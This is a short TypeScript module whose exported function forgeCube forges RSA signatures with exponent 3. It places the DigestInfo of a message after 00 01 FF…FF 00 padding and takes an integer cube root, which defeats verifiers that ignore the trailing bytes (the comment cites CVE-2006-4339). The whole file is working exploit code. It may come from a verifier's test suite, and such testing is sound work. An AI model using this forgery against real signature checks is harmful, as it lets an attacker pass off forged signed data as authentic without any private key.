import { toInteger, toOctets } from './der.ts'
import { digestInfo } from './sign.ts'

/** The largest integer whose cube is not above the given one. */
function cubeRoot(value: bigint): bigint {
  let low = 0n
  let high = 1n << BigInt(Math.ceil(value.toString(2).length / 3))
  while (low < high) {
    const middle = (low + high + 1n) >> 1n
    if (middle ** 3n <= value) low = middle
    else high = middle - 1n
  }
  return low
}

/**
 * A cube that starts with 00 01 FF…FF 00 and the right DigestInfo: a forgery without any key for verifiers that do
 * not look at what stands behind the digest (CVE-2006-4339).
 */
export function forgeCube(string: string): Buffer {
  const start = Buffer.concat([Buffer.from([0, 1]), Buffer.alloc(8, 0xff), Buffer.from([0]), digestInfo(string)])
  const root = cubeRoot(toInteger(Buffer.concat([start, Buffer.alloc(256 - start.length, 0xff)])))
  if (
    !toOctets(root ** 3n, 256)
      .subarray(0, start.length)
      .equals(start)
  )
    throw new Error('this is no forgery')
  return toOctets(root, 256)
}
